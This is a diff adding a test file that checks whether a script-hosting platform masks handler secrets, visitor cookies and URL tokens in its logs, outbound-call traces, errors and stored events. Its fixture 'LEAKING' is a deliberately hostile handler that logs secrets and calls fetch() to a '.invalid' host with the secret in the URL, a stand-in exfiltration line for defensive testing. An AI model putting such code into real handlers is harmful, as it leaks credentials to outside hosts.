@@ -1,0 +1,86 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+
+import { DATABASES } from '../../test/databases.ts';
+import { scriptOf, startTestPlatform, type TestPlatform } from '../../test/test-platform.ts';
+import { listDeliveries } from '../deliveries/replay.ts';
+import { MASK } from '../secrets/secret-field.ts';
+import { viewPage } from '../spaces/space.ts';
+
+const KEY = 'Mixed-Case+Secret/1';
+const CERTIFICATE = '-----BEGIN "KEY"-----\nabcdef\n-----END-----';
+
+/** A handler that puts its secrets wherever it can. */
+const LEAKING = scriptOf(`
+    if (event.type !== 'space_view') return new Response('OK');
+    const { KEY, CERTIFICATE } = environment.secrets;
+    console.log(JSON.stringify({ KEY, CERTIFICATE }), CERTIFICATE, encodeURIComponent(KEY));
+    console.log(JSON.stringify(event));
+    const host = KEY.replace(/[^-a-z]/gi, '') + '.invalid';
+    await fetch('https://' + host + '/bot' + KEY + '/send').catch(() => {});
+    return new Response('failed with ' + KEY, { status: 500 });`);
+
+describe.each(DATABASES)('what is kept of an invocation on %s', (database) => {
+    let test: TestPlatform;
+
+    beforeAll(async () => {
+        test = await startTestPlatform({ database });
+        await test.publish({
+            script: LEAKING,
+            secrets: { KEY, CERTIFICATE, HOST: 'Mixed-CaseSecret' },
+        });
+        await viewPage(test.core, test.spaceId, 'page', {
+            url: 'http://x/?jwt_token=token-of-a-visitor',
+            visitor: {
+                anonymousId: 'a',
+                userAgent: 'test',
+                ip: '127.0.0.1',
+                cookies: { session: 'cookie-of-a-visitor' },
+            },
+        });
+        await test.platform.deliveries.idle();
+        await test.platform.traces.flush();
+    });
+    afterAll(() => test[Symbol.asyncDispose]());
+
+    const traces = () =>
+        test.core.db
+            .selectFrom('invocations')
+            .select(['logs', 'egress', 'error'])
+            .where('type', '=', 'space_view')
+            .execute();
+
+    it('holds no secret in any spelling, neither in logs nor in outbound calls', async () => {
+        const [trace] = await traces();
+        expect(trace?.egress[0]?.host).toBe(`${MASK}.invalid`);
+        const told = JSON.stringify(trace);
+        for (const secret of [KEY, encodeURIComponent(KEY), 'abcdef']) {
+            expect(told).not.toContain(secret);
+        }
+        expect(told.toLowerCase()).not.toContain('mixed-case');
+    });
+
+    it('holds no secret in what a failed delivery answered', async () => {
+        const [delivery] = await listDeliveries(test.core, {}, 1);
+        expect(delivery).toMatchObject({ state: 'pending', lastError: `failed with ${MASK}` });
+        const row = await test.core.db
+            .selectFrom('events')
+            .selectAll()
+            .where('type', '=', 'space_view')
+            .executeTakeFirst();
+        expect(JSON.stringify(row)).not.toContain(KEY);
+    });
+
+    it('holds no cookie and no parameter of a visitor in plain text, and delivers both', async () => {
+        const rows = await test.core.db
+            .selectFrom('events')
+            .selectAll()
+            .where('type', '=', 'space_view')
+            .execute();
+        expect(rows).toHaveLength(1);
+        expect(JSON.stringify(rows)).not.toMatch(/(cookie|token)-of-a-visitor/);
+        const [trace] = await traces();
+        // What the handler was given, as it logged it.
+        expect(trace?.logs.at(-1)?.message).toContain('"session":"cookie-of-a-visitor"');
+        expect(trace?.logs.at(-1)?.message).toContain('?jwt_token=token-of-a-visitor');
+    });
+});
